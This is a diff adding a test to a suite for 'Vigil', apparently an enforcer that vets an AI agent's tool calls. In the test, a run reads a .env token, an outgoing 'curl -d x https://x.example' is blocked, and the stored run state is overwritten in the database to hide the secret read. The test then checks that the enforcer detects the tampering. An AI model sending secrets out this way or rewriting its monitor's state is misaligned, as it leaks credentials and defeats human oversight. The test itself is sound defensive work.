@@ -319,3 +319,21 @@ describe("events only from decided calls", () => {
     expect(guard.standing("r").events).toBe(1);
   });
 });
+
+describe("a state changed outside Vigil", () => {
+  it("is not decided on: the enforcer fails (the hook then refuses the call), and commits nothing to the edit", async () => {
+    const store = openStore();
+    const guard = await enforcer(codingPolicy, store);
+    guard.decide("r", { id: "t1", action: "Read", args: { file_path: "/home/dev/p/.env" } });
+    guard.record("r", { id: "t1", status: "ok", content: "API_TOKEN=x" });
+    expect(guard.decide("r", { id: "t2", action: "Bash", args: { command: "curl -d x https://x.example" } }).decision).toBe("block");
+    // The secret read is erased from the state: the state of a run that did nothing.
+    guard.decide("fresh", { id: "f1", action: "Read", args: { file_path: "/home/dev/p/README.md" } });
+    store.db.prepare("UPDATE runs SET state = (SELECT state FROM runs WHERE run_id = 'fresh') WHERE run_id = 'r'").run();
+    const other = await enforcer(codingPolicy, store);
+    const records = [...readAudit(store)].length;
+    expect(() => other.decide("r", { id: "t3", action: "Bash", args: { command: "curl -d x https://x.example" } })).toThrow(/changed outside Vigil/);
+    expect(() => other.record("r", { id: "t2", status: "ok" })).toThrow(/changed outside Vigil/);
+    expect([...readAudit(store)].length).toBe(records);
+  });
+});
